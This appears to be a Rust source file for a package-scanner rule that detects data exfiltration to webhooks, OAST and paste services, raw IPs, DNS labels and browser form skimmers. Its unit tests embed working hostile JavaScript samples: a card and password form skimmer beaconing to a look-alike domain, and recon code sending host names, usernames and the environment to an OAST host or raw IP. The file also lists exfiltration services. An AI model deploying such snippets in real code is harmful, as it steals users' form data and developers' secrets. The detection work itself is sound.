//! `exfil-sink`: network calls to raw IP addresses, webhook/paste/OAST services, and DNS
//! exfiltration through data-bearing subdomains.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::{signals, sinks};
use super::{FileRule, RuleInfo};
use crate::facts::{Call, FileFacts, Value};

pub struct ExfilSink;

static INFO: RuleInfo = RuleInfo {
    id: "exfil-sink",
    severity: Severity::High,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Network],
    summary: "Sends data to a raw IP, a webhook/paste/OAST service, or out through DNS lookups",
    docs: r#"## What it detects

Network calls (http/https/http2, fetch, axios/got/request/needle/superagent/undici, net/tls/dgram
sockets, WebSocket, XMLHttpRequest, or curl/wget run as a command) in a file that names:

- an **exfiltration service**: Discord webhooks, Slack incoming webhooks and Telegram bots with hard-coded credentials,
  webhook.site, Pipedream, request bins and catchers, ngrok/Cloudflare/localtunnel tunnels,
  interactsh/OAST domains (oast.fun, oast.pro, oast.live, oast.site, oast.online, oast.me,
  interact.sh), Burp Collaborator (oastify.com), canarytokens, dnslog, paste sites (pastebin,
  hastebin), file drops (transfer.sh) and Google Apps Script web apps
  (`script.google.com/macros/s/…`, a free collection endpoint anyone can deploy);
- a **raw public IP address** (loopback, private, documentation ranges and the public DNS
  resolvers are ignored);
- **DNS exfiltration**: `dns.lookup`/`resolve*` of a hostname built at run time in a file that
  hex/base32-encodes data or collects host facts, or of a literal name with a long hex label.

- a **browser form skimmer**: a small hand-written file that selects form fields (`input`, password or card
  fields), listens for `submit`/`keydown`/`input`/`change`, and beacons to a literal collection
  URL left open for the data (`new Image().src = 'https://host/c?d=' + btoa(…)`,
  `navigator.sendBeacon`, `fetch`): critical when it aims at card or password fields or encodes
  what it sends, high otherwise.

Graded: **critical** when the same file also collects something to send (environment variables,
`os.hostname()`/`os.userInfo()`/`os.homedir()`, network interfaces, credential paths, the
current directory); **high** for an exfiltration service or DNS exfiltration alone; **moderate**
for a raw IP alone.

## Real attacks

- Dependency-confusion probes (2021–2025, thousands of packages): a preinstall that sends
  `os.hostname()`, `os.userInfo().username`, `process.cwd()` and the environment to interactsh,
  Burp Collaborator, Pipedream or a raw IP, or encodes them as DNS labels of an OAST domain.
- Stealer typosquats posting tokens to Discord webhooks and Telegram bots (2020–2025).
- Shai-Hulud (September 2025): posted harvested secrets to a webhook.site URL.
- ua-parser-js, coa and rc (2021): downloaded their miner from a raw IP address.
- Magecart-style skimmers shipped in npm packages and compromised front-end libraries
  (2018 onwards, e.g. the British Airways and Ticketmaster script injections, copied by npm
  typosquats of form and analytics helpers): read card fields on submit and send them to a
  look-alike domain as an image request.

## Known false positives

SDKs that call their own API (`https://api.github.com/…`, `https://api.stripe.com/…`) are not
reported. Libraries for Discord and Telegram build webhook/bot URLs from variables and are not
reported; only hard-coded webhook ids and bot tokens are. Network tools that ship a default
public IP (an NTP or STUN server) may be reported moderate.
"#,
};

/// Whether the looked-up name is assembled from pieces in this file with a fixed domain part
/// (`label + '.d.example.com'`, `` `${hex}.x.oast.fun` ``, `[...parts, 'example', 'com'].join('.')`),
/// directly or in the variable's assignment: servers and mailers resolve host names they were
/// given (a parameter), which carry nothing.
fn dns_name_is_built(file: &FileFacts, call: &crate::facts::Call) -> bool {
    let domain_part = |s: &str| {
        let concat = s.contains('+') || s.contains('`') || s.contains(".join(");
        concat
            && ["'.", "\".", "`.", "}.", "join('.')", "join(\".\")"]
                .iter()
                .any(|p| s.contains(p))
    };
    let source = signals::first_arg_source(&call.excerpt).trim();
    if domain_part(source) {
        return true;
    }
    let plain = !source.is_empty()
        && source
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$');
    if !plain {
        return false;
    }
    let text = file.text.as_deref().unwrap_or("");
    signals::assignment_lines(text, source)
        .into_iter()
        .filter_map(|line| text.lines().nth(line as usize - 1))
        .any(domain_part)
}

const DNS_CALLS: &[&str] = &[
    "dns.lookup",
    "dns.resolve",
    "dns.resolve4",
    "dns.resolve6",
    "dns.resolveTxt",
    "dns.resolveCname",
    "dns.resolveAny",
    "dns.promises.lookup",
    "dns.promises.resolve",
    "dns.promises.resolve4",
    "dns.promises.resolveTxt",
    "dns.promises.resolveAny",
];

impl FileRule for ExfilSink {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        let collected = collected_data(file);
        let collects = !collected.is_empty();
        let with_data = |base: Severity| if collects { Severity::Critical } else { base };
        let data_note = if collects {
            format!(", and the file collects {}", collected.join(", "))
        } else {
            String::new()
        };

        // DNS exfiltration.
        let encodes = file.calls.iter().any(encodes_data);
        for call in file
            .calls
            .iter()
            .filter(|c| DNS_CALLS.contains(&sinks::normalize(&c.callee)))
        {
            let Some(name) = call.args.first() else {
                continue;
            };
            let literal_hex_label = name.as_str().is_some_and(has_long_hex_label);
            let oast = name
                .as_str()
                .is_some_and(|host| sinks::exfil_service(host, host).is_some());
            let computed = sinks::is_computed(name);
            // Bundles resolve computed host names everywhere (HTTP agents, service discovery).
            if literal_hex_label
                || oast
                || (computed && (encodes || collects) && !sinks::is_bundle(file) && dns_name_is_built(file, call))
            {
                out.push(sinks::finding(
                    &INFO,
                    file,
                    call.line,
                    with_data(Severity::High),
                    Confidence::Medium,
                    format!("Looks up DNS names that carry data (DNS exfiltration){data_note}"),
                    Some(&sinks::call_evidence(file, call)),
                ));
                return;
            }
        }

        if let Some(finding) = form_skimmer(file) {
            out.push(finding);
        }

        if !sinks::has_network(file) {
            return;
        }

        // Hosts named in network call arguments first (best evidence), then anywhere in the file.
        let mut best: Option<(Severity, u32, String, String)> = None;
        let consider = |best: &mut Option<(Severity, u32, String, String)>,
                        severity: Severity,
                        line: u32,
                        host: &str,
                        what: String,
                        evidence: String| {
            if best.as_ref().is_none_or(|(s, ..)| severity > *s) {
                *best = Some((severity, line, format!("{what} ({host})"), evidence));
            }
        };
        for call in file
            .calls
            .iter()
            .filter(|c| sinks::is_network_call(c) || sinks::is_exec_call(c) || is_url_constructor(c))
        {
            for host in sinks::call_hosts(call) {
                // Object-form options count too: `{ hostname: 'discord.com', path: '/api/webhooks/…' }`.
                let text = call.args.iter().filter_map(arg_text).collect::<Vec<_>>().join(" ");
                if let Some(label) = sinks::exfil_service(&host, &text) {
                    consider(
                        &mut best,
                        Severity::High,
                        call.line,
                        &host,
                        label.to_string(),
                        sinks::call_evidence(file, call),
                    );
                } else if sinks::is_public_ipv4(&host) {
                    consider(
                        &mut best,
                        Severity::Moderate,
                        call.line,
                        &host,
                        "a raw IP address".to_string(),
                        sinks::call_evidence(file, call),
                    );
                }
            }
        }
        if best.is_none() {
            for (text, _, line) in sinks::file_strings(file) {
                if text.len() > 4096 {
                    continue;
                }
                for host in sinks::url_hosts(text) {
                    if let Some(label) = sinks::exfil_service(&host, text) {
                        consider(
                            &mut best,
                            Severity::High,
                            line,
                            &host,
                            label.to_string(),
                            text.to_string(),
                        );
                    } else if sinks::is_public_ipv4(&host) {
                        consider(
                            &mut best,
                            Severity::Moderate,
                            line,
                            &host,
                            "a raw IP address".to_string(),
                            text.to_string(),
                        );
                    }
                }
            }
        }
        if let Some((severity, line, target, evidence)) = best {
            out.push(sinks::finding(
                &INFO,
                file,
                line,
                with_data(severity),
                if collects { Confidence::High } else { Confidence::Medium },
                format!("Talks to {target}{data_note}"),
                Some(&evidence),
            ));
        }
    }
}

/// `new URL('https://…')`: the address handed to a request later.
fn is_url_constructor(call: &Call) -> bool {
    call.is_new && matches!(sinks::normalize(&call.callee), "URL" | "url.URL")
}

/// The known text of an argument, object-form request options included (their string values
/// joined: host, path, url).
fn arg_text(value: &Value) -> Option<String> {
    match value {
        Value::Object { entries } => {
            let parts: Vec<String> = entries.iter().filter_map(|(_, v)| arg_text(v)).collect();
            (!parts.is_empty()).then(|| parts.join(" "))
        }
        other => sinks::value_text(other),
    }
}

/// Page events a skimmer listens to: the moment a form is filled in or sent.
const FORM_EVENTS: &[&str] = &["submit", "keydown", "keyup", "keypress", "input", "change", "blur"];

/// Selector words that aim at what people type into forms.
const FORM_FIELDS: &[&str] = &["input", "password", "card", "cvv", "cvc", "cc-", "billing", "checkout"];

/// Fields worth stealing: payment cards and passwords.
const SENSITIVE_FIELDS: &[&str] = &["password", "card", "cvv", "cvc", "cc-", "billing", "checkout"];

/// A browser form skimmer: the file selects form fields, listens for the form being filled in
/// or sent, and beacons to a hard-coded collection URL (`new Image().src = url + data`,
/// `navigator.sendBeacon`, `fetch`). Libraries that validate forms send nothing; analytics
/// SDKs send to their own configured endpoint, not to a literal URL with a query to fill.
fn form_skimmer(file: &FileFacts) -> Option<Finding> {
    // In a bundle, the selectors, the listener and a URL can belong to unrelated modules.
    if !sinks::is_small_handwritten(file) {
        return None;
    }
    let selectors: Vec<String> = file
        .calls
        .iter()
        .filter(|c| {
            matches!(
                signals::method(&c.callee),
                "querySelector" | "querySelectorAll" | "getElementsByTagName" | "getElementById" | "getElementsByName"
            )
        })
        .filter_map(|c| c.args.first().and_then(Value::as_str))
        .map(str::to_ascii_lowercase)
        .filter(|selector| FORM_FIELDS.iter().any(|field| selector.contains(field)))
        .collect();
    if selectors.is_empty() {
        return None;
    }
    let listens = file.calls.iter().any(|c| {
        signals::method(&c.callee) == "addEventListener"
            && c.args
                .first()
                .and_then(Value::as_str)
                .is_some_and(|e| FORM_EVENTS.contains(&e))
    });
    if !listens {
        return None;
    }
    // A collection URL with a query left open for the data: `https://host/c?d=`.
    let collector = file.strings.iter().find(|s| {
        let value = s.value.trim();
        value.len() <= 2048 && value.ends_with('=') && sinks::url_hosts(value).iter().any(|host| host.contains('.'))
    })?;
    let beacons = file.assignments.iter().any(|a| a.target.ends_with(".src"))
        || file.calls.iter().any(|c| {
            matches!(sinks::normalize(&c.callee), "navigator.sendBeacon" | "fetch") || sinks::is_network_call(c)
        });
    if !beacons {
        return None;
    }
    let sensitive = selectors
        .iter()
        .any(|selector| SENSITIVE_FIELDS.iter().any(|field| selector.contains(field)));
    let encodes =
        file.calls.iter().any(|c| sinks::normalize(&c.callee) == "btoa") || file.calls.iter().any(encodes_data);
    let (severity, confidence) = if sensitive || encodes {
        (Severity::Critical, Confidence::High)
    } else {
        (Severity::High, Confidence::Medium)
    };
    Some(sinks::finding(
        &INFO,
        file,
        collector.line,
        severity,
        confidence,
        format!(
            "Reads form fields (`{}`) when the page's forms are filled in or sent and beacons them to {}: a form skimmer",
            palisade_core::bounded_excerpt(&selectors[0], 40),
            palisade_core::bounded_excerpt(&collector.value, 80)
        ),
        Some(&collector.value),
    ))
}

/// What the file gathers about the machine or user.
pub(super) fn collected_data(file: &FileFacts) -> Vec<&'static str> {
    let mut found = Vec::new();
    let mut add = |what: &'static str| {
        if !found.contains(&what) {
            found.push(what);
        }
    };
    for call in &file.calls {
        match sinks::normalize(&call.callee) {
            "os.hostname" => add("the host name"),
            "os.userInfo" => add("the user name"),
            "os.networkInterfaces" => add("network addresses"),
            "process.cwd" => add("the working directory"),
            _ => {}
        }
    }
    for read in &file.member_reads {
        if read.path == "process.env" && read.whole {
            add("the environment");
        } else if let Some(name) = read.path.strip_prefix("process.env.") {
            if sinks::is_secret_env_name(name) {
                add("secret environment variables");
            } else if matches!(name, "USER" | "USERNAME" | "LOGNAME" | "COMPUTERNAME" | "HOSTNAME") {
                add("the user name");
            }
        }
    }
    if sinks::credential_texts(file)
        .into_iter()
        .any(|(text, _, _)| sinks::credential_kinds(text).iter().any(|k| !k.is_weak()))
    {
        add("credential files");
    }
    found
}

/// `buf.toString('hex'|'base64'|'base32')`, base32 libraries: data turned into DNS-safe labels.
fn encodes_data(call: &Call) -> bool {
    let callee = sinks::normalize(&call.callee);
    (callee.ends_with("toString")
        && call
            .args
            .first()
            .and_then(Value::as_str)
            .is_some_and(|e| matches!(e, "hex" | "base64" | "base64url")))
        || callee.starts_with("base32")
        || callee.starts_with("hi-base32")
}

/// A DNS label of 24+ hex characters: data, not a name.
fn has_long_hex_label(host: &str) -> bool {
    host.split('.')
        .any(|label| label.len() >= 24 && label.bytes().all(|b| b.is_ascii_hexdigit()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        ExfilSink.check(&file, &mut out);
        out
    }

    fn worst(source: &str) -> Severity {
        run(source)
            .iter()
            .map(|f| f.severity)
            .max()
            .unwrap_or(Severity::Unknown)
    }

    #[test]
    fn sdk_calling_its_own_api_is_quiet() {
        let source = "const token = process.env.GITHUB_TOKEN;\nmodule.exports = () => fetch('https://api.github.com/repos/o/r', { headers: { authorization: `token ${token}` } });";
        assert!(run(source).is_empty());
    }

    #[test]
    fn discord_library_without_hardcoded_webhook_is_quiet() {
        let source = "const https = require('https');\nmodule.exports = (id, token, body) => https.request(`https://discord.com/api/webhooks/${id}/${token}`, { method: 'POST' }).end(body);";
        assert!(run(source).is_empty());
    }

    #[test]
    fn hardcoded_discord_webhook_is_high() {
        let source = "const https = require('https');\nconst req = https.request('https://discord.com/api/webhooks/112233445566778899/AbCdEf-token', { method: 'POST' });\nreq.end('{}');";
        let findings = run(source);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].severity, Severity::High);
        assert_eq!(findings[0].line, Some(2));
    }

    #[test]
    fn object_form_and_url_webhooks_are_high() {
        let source = "const https = require('https');\nconst req = https.request({ hostname: 'discord.com', path: '/api/webhooks/12345678/AbCdEfGhIjKlMnOpQrStUvWxYz-0123', method: 'POST' });\nreq.end('{}');";
        assert_eq!(worst(source), Severity::High);
        let source = "const https = require('https');\nconst u = new URL('/api/webhooks/1234567/AbCdEfGhIjKlMnOpQrStUvWxYz', 'https://discordapp.com');\nhttps.request(u, { method: 'POST' }).end('{}');";
        assert_eq!(worst(source), Severity::High);
        // A Discord client taking the webhook from its caller stays quiet.
        let source = "const https = require('https');\nmodule.exports = (path) => https.request({ hostname: 'discord.com', path, method: 'POST' });";
        assert!(run(source).is_empty());
        let source = "const https = require('https');\nmodule.exports = () => https.request({ hostname: 'discord.com', path: '/api/v10/gateway' });";
        assert!(run(source).is_empty());
    }

    #[test]
    fn object_form_raw_ip_with_collected_data_is_critical() {
        let source = "const http = require('http');\nconst os = require('os');\nconst port = 4444;\nconst r = http.request({ host: '45.61.139.10', port, method: 'POST' });\nr.end(JSON.stringify({ h: os.hostname(), e: process.env }));";
        assert_eq!(worst(source), Severity::Critical);
        assert!(run("const http = require('http');\nhttp.request({ host: '10.0.0.2', port: 80 });").is_empty());
    }

    #[test]
    fn recon_to_oast_is_critical() {
        let source = "const os = require('os');\nconst https = require('https');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: process.cwd() });\nconst r = https.request({ hostname: 'cq1b2c3d4e5f.oast.fun', path: '/', method: 'POST' });\nr.write(data); r.end();";
        assert_eq!(worst(source), Severity::Critical);
    }

    #[test]
    fn raw_ip_alone_is_moderate() {
        assert_eq!(
            worst("const http = require('http');\nhttp.get('http://45.61.139.10:8080/ping');"),
            Severity::Moderate
        );
        assert!(run("const http = require('http');\nhttp.get('http://127.0.0.1:8080/ping');").is_empty());
    }

    #[test]
    fn resolving_a_given_host_name_is_not_dns_exfiltration() {
        // fastify/nodemailer: the host comes in as a parameter; the file lists interfaces.
        let source = "const dns = require('dns'), os = require('os');\nfunction listen(host, cb) {\n  const addrs = os.networkInterfaces();\n  dns.lookup(host, { all: true }, (err, found) => cb(err, found, addrs));\n}\nmodule.exports = listen;";
        assert!(run(source).is_empty(), "{:#?}", run(source));
        let built = "const dns = require('dns'), os = require('os');\nconst targetHost = Buffer.from(os.hostname()).toString('hex') + '.x.collector.invalid';\ndns.lookup(targetHost, () => {});";
        assert_eq!(worst(built), Severity::Critical, "{:#?}", run(built));
    }

    #[test]
    fn dns_exfiltration_is_detected() {
        let source = "const dns = require('dns');\nconst os = require('os');\nconst label = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(label + '.d.collector.example.invalid', () => {});";
        assert_eq!(worst(source), Severity::Critical);
        assert!(run("const dns = require('dns');\ndns.lookup('registry.npmjs.org', () => {});").is_empty());
    }

    #[test]
    fn form_skimmer_is_critical() {
        let skimmer = "document.addEventListener('submit', function () {\n  var d = {};\n  document.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value; });\n  new Image().src = 'https://jquery-cdn-stats.com/collect?d=' + btoa(JSON.stringify(d));\n}, true);";
        let findings = run(skimmer);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].severity, Severity::Critical);
        assert!(findings[0].message.contains("form skimmer"), "{}", findings[0].message);
        // Validation reads the same fields and sends nothing.
        let validator = "document.addEventListener('submit', (e) => {\n  for (const i of document.querySelectorAll('input[required]')) { if (!i.value) e.preventDefault(); }\n});";
        assert!(run(validator).is_empty(), "{:?}", run(validator));
        // An image whose URL is complete is not a beacon left open for data.
        let gallery = "document.querySelector('input.search').addEventListener('input', () => { new Image().src = 'https://cdn.example.com/spinner.gif'; });";
        assert!(run(gallery).is_empty(), "{:?}", run(gallery));
    }
}
